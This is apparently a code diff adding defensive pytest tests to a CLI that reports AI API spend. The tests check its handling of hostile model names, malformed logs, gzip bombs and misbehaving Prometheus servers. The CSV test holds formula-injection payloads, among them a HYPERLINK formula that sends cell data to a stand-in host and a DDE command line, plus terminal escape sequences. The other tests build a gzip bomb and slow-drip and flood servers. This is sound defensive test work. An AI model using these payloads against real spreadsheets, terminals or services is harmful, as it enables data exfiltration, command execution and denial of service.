@@ -5,6 +5,8 @@ import gzip
 import json
 import shutil
 import subprocess
+import sys
+import threading
 import time
 import urllib.parse
 import urllib.request
@@ -267,3 +269,169 @@ def test_prometheus_and_access_log_agree_per_team(tmp_path: Path, capsys: pytest
     finally:
         prom.close()
         exposition.close()
+
+
+# ---- hostile inputs ---------------------------------------------------------------------------
+def test_csv_neutralises_formulas_and_no_control_character_reaches_the_terminal(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Client-chosen model names are text in a spreadsheet and inert on a terminal."""
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+               "\tlead-tab", "\x1b]52;c;cHduZWQ=\x07\x1b[2Jclear", "bidi\u202eevil", "c1\x9bcsi"]
+    log = write_log(tmp_path / "a.log", [entry(T0 + 10 + i, "t", m, 1, 1, 0.001 * (i + 1)) for i, m in enumerate(hostile)])
+    window = ["--since", str(T0), "--until", str(T0 + 3600)]
+    code, out, _ = spend(capsys, "--access-log", str(log), "--format", "csv", *window)
+    assert code == 0
+    import csv as csvmod
+    import io as iomod
+    cells = [row[0] for row in csvmod.reader(iomod.StringIO(out))][1:]
+    assert sorted(cells) == sorted([
+        "'" + hostile[0], "'" + hostile[1], "'-2+3", "'@SUM(A1)", "'\\x09lead-tab",
+        "\\x1b]52;c;cHduZWQ=\\x07\\x1b[2Jclear", "bidi\\u202eevil", "c1\\x9bcsi"])
+    for fmt in ("table", "csv"):
+        code, out, _ = spend(capsys, "--access-log", str(log), "--format", fmt, *window)
+        assert code == 0
+        assert not any(ord(c) < 0x20 and c != "\n" or 0x7f <= ord(c) <= 0x9f or c == "\u202e" for c in out), fmt
+        assert "\\x1b]52;c;cHduZWQ=\\x07" in out
+    code, out, _ = spend(capsys, "--access-log", str(log), "--format", "json", *window)
+    assert {r["model"] for r in json.loads(out)["rows"]} == set(hostile)  # JSON keeps the exact values (escaped)
+
+
+def test_hostile_access_log_lines_are_skipped_and_counted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A 100k-deep JSON line, numbers a counter cannot hold and an over-long line are not entries:
+    skipped and counted in one stderr line; the real entries still add up."""
+    big = dict(entry(T0 + 12, "t", "m", 1, 1, 1e308))
+    inf_tokens = dict(entry(T0 + 13, "t", "m", 10**400, 1, 0.5))  # an integer JSON accepts, no float holds
+    neg = dict(entry(T0 + 14, "t", "m", -5, 1, 0.5))
+    extra = ("[" * 100_000 + "\n" + json.dumps(big) + "\n" + json.dumps(big) + "\n" + json.dumps(neg) + "\n"
+             + json.dumps(inf_tokens, default=str).replace('"prompt_tokens": ' + str(10**400), '"prompt_tokens": 1' + "0" * 400)
+             + "\n" + '{"model": "' + "x" * (2 << 20) + '"}\n')
+    log = write_log(tmp_path / "a.log", TRAFFIC, extra=extra)
+    code, out, err = spend(capsys, "--access-log", str(log), "--format", "json", "--since", str(T0), "--until", str(T0 + 3600))
+    assert code == 0, err
+    assert err == "extproc spend: skipped 6 line(s) that are not JSON access-log entries\n"
+    total = json.loads(out)["total"]
+    assert (total["calls"], total["input_tokens"]) == (5, 6_110)
+    assert total["cost_usd"] == pytest.approx(0.014301, abs=1e-12)
+
+
+def _spend_child(*argv: str, timeout: float = 60) -> tuple[int, str, str, int]:
+    """``extproc spend`` in its own process: (exit code, stdout, stderr, peak RSS in MB)."""
+    code = ("import resource, sys\nfrom extproc import cli\nrc = cli.main(['spend', *sys.argv[1:]])\nsys.stdout.flush()\n"
+            "print('MAXRSS', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024, file=sys.stderr)\nsys.exit(rc)\n")
+    p = subprocess.run([sys.executable, "-c", code, *argv], capture_output=True, text=True, timeout=timeout)
+    err_lines = p.stderr.splitlines()
+    assert err_lines and err_lines[-1].startswith("MAXRSS "), p.stderr[-2000:]
+    return p.returncode, p.stdout, "\n".join(err_lines[:-1]) + "\n", int(err_lines[-1].split()[1])
+
+
+def test_a_gzip_bomb_is_refused_in_bounded_memory(tmp_path: Path) -> None:
+    """1 MB of gzip that inflates to 1 GiB (one line of zeros) ends in one error line, holding
+    neither the line nor the decompressed stream."""
+    bomb = tmp_path / "access.log.gz"
+    zero = bytes(1 << 20)
+    with gzip.open(bomb, "wb", compresslevel=9) as f:
+        for _ in range(1024):
+            f.write(zero)
+    assert bomb.stat().st_size < 2 << 20
+    code, out, err, rss = _spend_child("--access-log", str(bomb))
+    assert (code, out) == (1, "")
+    assert err == f"extproc spend: cannot read {bomb}: it decompresses to more than 200 times its size (not an access log)\n"
+    assert rss < 200, rss
+
+
+class Scripted:
+    """A 'Prometheus' that answers every query with what the test sets: bytes, or a callable
+    writing to the socket itself."""
+
+    def __init__(self) -> None:
+        self.answer: Any = b""
+        outer = self
+
+        class Handler(QuietHandler):
+            def do_GET(self) -> None:  # noqa: N802
+                if callable(outer.answer):
+                    outer.answer(self)
+                else:
+                    self.respond(200, outer.answer, "application/json")
+
+        self.port, self._stop = serve_http(Handler)
+        self.url = f"http://127.0.0.1:{self.port}"
+
+    def close(self) -> None:
+        self._stop()
+
+
+def _matrix(value: Any) -> bytes:
+    """One series holding ``value``, as a range query's ``values`` and an instant query's ``value``."""
+    return json.dumps({"status": "success", "data": {"resultType": "matrix", "result": [
+        {"metric": {"__name__": "ai_cost_usd_total", "team": "a"}, "values": [[T0, value]], "value": [T0, value]}]}}).encode()
+
+
+@pytest.mark.parametrize("answer", [
+    b"null", b'"x"', b'{"status": "success", "data": null}', b'{"status": "success", "data": {"result": null}}',
+    b"[" * 100_000, b'{"status": "success", "data": ' + b"[" * 100_000, _matrix("+Inf"), _matrix("NaN"),
+    _matrix("1e308"), _matrix("-1"), _matrix(None), _matrix([1]), b'{"status": "error", "error": "bad\\u001b[2J"}',
+], ids=["null", "string", "data-null", "result-null", "deep", "deep-data", "inf", "nan", "1e308", "negative",
+        "value-null", "value-list", "error-with-escape"])
+def test_a_hostile_prometheus_answer_is_one_error_line(answer: bytes, capsys: pytest.CaptureFixture[str]) -> None:
+    prom = Scripted()
+    try:
+        prom.answer = answer
+        code, out, err = spend(capsys, "--prometheus", prom.url, "--by", "team", "--since", str(T0 - 60), "--until", str(T0 + 60))
+    finally:
+        prom.close()
+    assert (code, out) == (1, "")
+    assert err.startswith("extproc spend: ") and err.count("\n") == 1 and "Traceback" not in err, err
+    assert not any(ord(c) < 0x20 and c != "\n" for c in err)
+
+
+def test_a_dripping_prometheus_ends_at_the_deadline() -> None:
+    """One byte per second keeps every socket read alive; the overall deadline still ends it."""
+    stop = threading.Event()
+
+    def drip(handler: QuietHandler) -> None:
+        for b in b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\r\n" + _matrix("1"):
+            if stop.wait(1.0):
+                return
+            handler.wfile.write(bytes([b]))
+            handler.wfile.flush()
+
+    prom = Scripted()
+    prom.answer = drip
+    try:
+        t = time.monotonic()
+        code, out, err, _ = _spend_child("--prometheus", prom.url, "--timeout", "3", timeout=30)
+        took = time.monotonic() - t
+    finally:
+        stop.set()
+        prom.close()
+    assert (code, out) == (1, "")
+    assert err == f"extproc spend: Prometheus at {prom.url} did not answer within 3 s (--timeout)\n"
+    assert took < 10, took
+
+
+def test_a_huge_prometheus_answer_is_refused_in_bounded_memory() -> None:
+    """A 400 MB answer (sent without a length) is refused at --max-answer-mb, never held whole."""
+    series = json.dumps({"metric": {"team": "t"}, "values": [[T0 + i, "1"] for i in range(2000)]}).encode()
+
+    def flood(handler: QuietHandler) -> None:
+        handler.send_response(200)
+        handler.send_header("content-type", "application/json")
+        handler.end_headers()
+        try:
+            handler.wfile.write(b'{"status": "success", "data": {"resultType": "matrix", "result": [' + series)
+            for _ in range(400_000_000 // len(series)):
+                handler.wfile.write(b"," + series)
+            handler.wfile.write(b"]}}")
+        except OSError:
+            pass  # the reader hung up
+
+    prom = Scripted()
+    prom.answer = flood
+    try:
+        code, out, err, rss = _spend_child("--prometheus", prom.url, timeout=120)
+    finally:
+        prom.close()
+    assert (code, out) == (1, "")
+    assert err == f"extproc spend: Prometheus at {prom.url} sent an answer larger than 64 MiB (--max-answer-mb; or a shorter window)\n"
+    assert rss < 300, rss
